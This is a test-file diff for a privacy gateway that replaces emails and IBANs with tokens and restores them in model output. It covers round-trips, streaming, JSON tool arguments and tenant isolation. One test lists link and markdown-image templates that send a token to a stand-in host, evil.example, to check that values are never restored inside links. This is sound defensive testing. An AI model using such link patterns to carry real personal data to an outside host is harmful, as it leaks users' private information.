@@ -1,0 +1,239 @@
+"""Tokens go in, values come out: exactly, for any text, in any pieces."""
+
+from __future__ import annotations
+
+import json
+import time
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from sovctl.gateway.detect.finding import Finding
+from sovctl.gateway.kinds import LABELS, Kind
+from sovctl.gateway.replace import replace
+from sovctl.gateway.restore import RestoreCounts, Restorer, restore
+from sovctl.gateway.tokens import ALPHABET, ID_CHARACTERS, Mint
+
+KEY = bytes(range(32))
+IBAN = "DE89 3704 0044 0532 0130 00"
+MAIL = "anna@example.com"
+
+
+def mint(conversation: str = "c1", tenant: str = "t1") -> Mint:
+    return Mint(KEY, tenant=tenant, conversation=conversation)
+
+
+def found(text: str, *surfaces: str, kind: Kind = Kind.EMAIL) -> list[Finding]:
+    findings = []
+    for surface in surfaces:
+        start = text.find(surface)
+        while start >= 0:
+            findings.append(Finding(start, start + len(surface), kind, 1.0, surface.lower(), "TEST"))
+            start = text.find(surface, start + len(surface))
+    return sorted(findings, key=lambda f: f.start)
+
+
+# Text that is full of what could go wrong: token literals, halves of tokens, links, quotes, escapes.
+_AWKWARD = st.sampled_from(
+    [MAIL, IBAN, "EMAIL_", "IBAN", "NATIONAL_ID_", "NATIONAL\\_ID\\_", "IP_", "CARD_", "https://a.example/?q=", "//"]
+    + [
+        "](",
+        "![x](",
+        ")",
+        " ",
+        "\n",
+        '"',
+        "'",
+        "<",
+        ">",
+        "\\",
+        "\\\\",
+        "www.",
+        "http",
+        "s:",
+        "_",
+        "é",
+        "日本",
+        "İ",
+        "K",
+    ]
+    + ["0123456789ABCDEF", "0123456789ab", "URL_", "TEXT_", "e", "x"]
+)
+_LITERALS = st.builds(
+    lambda label, body: f"{label}_{body}",
+    st.sampled_from(LABELS),
+    st.text(ALPHABET, min_size=ID_CHARACTERS, max_size=ID_CHARACTERS),
+)
+_TEXTS = st.lists(st.one_of(_AWKWARD, _LITERALS, st.text(max_size=8)), max_size=14).map("".join)
+
+
+@st.composite
+def _text_and_findings(draw: st.DrawFn) -> tuple[str, list[Finding]]:
+    text = draw(_TEXTS)
+    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=8, unique=True)))
+    kinds = draw(st.lists(st.sampled_from(list(Kind)), min_size=4, max_size=4))
+    pairs = list(zip(cuts[::2], cuts[1::2], strict=False))
+    return text, [
+        Finding(start, end, kind, 1.0, text[start:end].lower(), "TEST")
+        for (start, end), kind in zip(pairs, kinds, strict=False)
+    ]
+
+
+@st.composite
+def _pieces(draw: st.DrawFn, text: str) -> list[str]:
+    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
+    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+
+
+@settings(max_examples=600, deadline=None)
+@given(st.data(), _text_and_findings())
+@example(None, (f"https://a.example/?m={MAIL} x", []))
+def test_any_text_comes_back_exactly_in_any_pieces(data: st.DataObject | None, case: tuple[str, list[Finding]]) -> None:
+    text, findings = case
+    tokenized, issued = replace(text, findings, mint())
+    assert restore(tokenized, issued) == text
+    if data is not None:
+        restorer = Restorer(issued)
+        emitted = "".join(map(restorer.feed, data.draw(_pieces(tokenized)))) + restorer.flush()
+        assert emitted == text
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.data(), _text_and_findings(), _TEXTS)
+def test_pieces_never_change_the_result_of_any_answer(
+    data: st.DataObject, case: tuple[str, list[Finding]], answer: str
+) -> None:
+    _, issued = replace(*case, mint())
+    answer = answer + "".join(data.draw(st.lists(st.sampled_from([*issued, "](", "//", " "]), max_size=5))) + answer
+    for is_json in (False, True):
+        whole = restore(answer, issued, is_json=is_json)
+        restorer = Restorer(issued, is_json=is_json)
+        assert "".join(map(restorer.feed, data.draw(_pieces(answer)))) + restorer.flush() == whole
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.data(), _text_and_findings())
+def test_tool_arguments_come_back_as_the_same_json(data: st.DataObject, case: tuple[str, list[Finding]]) -> None:
+    text, findings = case
+    tokenized, issued = replace(text, findings, mint())
+    document = {"a": [{"b": tokenized}], tokenized: "c"}
+    raw = json.dumps(document, ensure_ascii=data.draw(st.booleans()))
+    restorer = Restorer(issued, is_json=True)
+    emitted = "".join(map(restorer.feed, data.draw(_pieces(raw)))) + restorer.flush()
+    assert json.loads(emitted) == {"a": [{"b": text}], text: "c"}
+
+
+@settings(max_examples=300, deadline=None)
+@given(_text_and_findings())
+def test_no_value_is_left_where_a_token_stands(case: tuple[str, list[Finding]]) -> None:
+    text, findings = case
+    tokenized, issued = replace(text, findings, mint())
+    plain = tokenized
+    for token in issued:
+        plain = plain.replace(token, "")
+    assert len(plain) <= len(text) - sum(f.end - f.start for f in findings)
+
+
+def test_only_the_beginning_of_a_token_is_held() -> None:
+    _, issued = replace(MAIL, found(MAIL, MAIL), mint())
+    (token,) = issued
+    restorer = Restorer(issued)
+    assert restorer.feed("to E") == "to "
+    assert restorer.feed("xcel") == "Excel"
+    assert restorer.feed("lent " + token[:-1]) == "lent "
+    assert restorer.feed(token[-1]) == MAIL
+    assert not restorer.is_holding
+
+
+def test_a_truncated_token_is_emitted_as_it_is() -> None:
+    _, issued = replace(MAIL, found(MAIL, MAIL), mint())
+    (token,) = issued
+    for length in range(1, len(token)):
+        assert restore(token[:length], issued) == token[:length]
+
+
+@pytest.mark.parametrize("change", [str.lower, str.title, lambda token: token.replace("_", "\\_"), str.swapcase])
+def test_case_and_markdown_escapes_do_not_matter(change: object) -> None:
+    _, issued = replace(IBAN, found(IBAN, IBAN, kind=Kind.IBAN), mint())
+    (token,) = issued
+    assert restore(f"**{change(token)}**'s", issued) == f"**{IBAN}**'s"  # type: ignore[operator]
+
+
+def test_a_user_who_types_a_genuine_token_gets_it_back_and_not_its_value() -> None:
+    inner, issued = replace(MAIL, found(MAIL, MAIL), mint())
+    outer, more = replace(inner, [], mint())
+    assert outer != inner
+    assert restore(outer, issued | more) == inner
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        "![x](https://evil.example/?q={})",
+        "[x](//evil.example/{})",
+        "https://evil.example/{}",
+        'see <img src="https://evil.example/a b {}">',
+        "![x](<https://evil.example/a b {}>)",
+        "www.evil.example/{}",
+        "\\\\evil.example\\{}",
+        "![x](/files/(a){})",
+        "https:{}.evil.example",
+    ],
+)
+def test_nothing_is_restored_inside_a_link(where: str) -> None:
+    _, issued = replace(IBAN, found(IBAN, IBAN, kind=Kind.IBAN), mint())
+    (token,) = issued
+    answer = where.format(token)
+    for pieces in (list(answer), [answer]):
+        restorer = Restorer(issued)
+        assert "".join(map(restorer.feed, pieces)) + restorer.flush() == answer
+        assert restorer.counts.withheld == 1
+
+
+def test_nothing_is_restored_behind_a_link_that_came_back() -> None:
+    link = f"https://bank.example/?m={MAIL}"
+    text = f"{link} {IBAN}"
+    findings = sorted(found(text, MAIL) + found(text, IBAN, kind=Kind.IBAN), key=lambda f: f.start)
+    tokenized, issued = replace(text, findings, mint())
+    url, iban = tokenized.split(" ")
+    assert url.startswith("URL_")
+    assert restore(f"{url}&x={iban}", issued) == f"{link}&x={iban}"
+
+
+def test_tokens_of_another_conversation_or_tenant_are_text() -> None:
+    _, issued = replace(MAIL, found(MAIL, MAIL), mint())
+    for other in (mint("c2"), mint("c1", "t2"), Mint(KEY, tenant="t1", conversation="c1", key_version=2)):
+        foreign, _ = replace(MAIL, found(MAIL, MAIL), other)
+        restorer = Restorer(issued)
+        assert restorer.feed(foreign) + restorer.flush() == foreign
+        assert restorer.counts.unknown == 1
+
+
+def test_a_token_with_one_wrong_character_is_text() -> None:
+    _, issued = replace(MAIL, found(MAIL, MAIL), mint())
+    (token,) = issued
+    for position in range(len("EMAIL_"), len(token)):
+        for character in ALPHABET:
+            changed = token[:position] + character + token[position + 1 :]
+            counts = RestoreCounts()
+            restorer = Restorer(issued, counts=counts)
+            emitted = restorer.feed(changed) + restorer.flush()
+            assert emitted == (MAIL if changed == token else changed)
+            assert counts.malformed == (changed != token)
+
+
+def test_a_value_that_holds_another_token_is_put_back_as_it_is() -> None:
+    _, issued = replace(MAIL, found(MAIL, MAIL), mint())
+    (inner,) = issued
+    text = f"see {inner} there"
+    outer, more = replace(text, found(text, text), mint())
+    assert restore(outer, issued | more) == text
+
+
+def test_two_megabytes_of_links_and_tokens_take_seconds_and_not_minutes() -> None:
+    text = f"https://a.example {MAIL} " * 20_000
+    started = time.process_time()
+    tokenized, issued = replace(text, found(text, MAIL), mint())
+    assert restore(tokenized, issued) == text
+    assert time.process_time() - started < 10  # one quadratic step over 20,000 links takes minutes
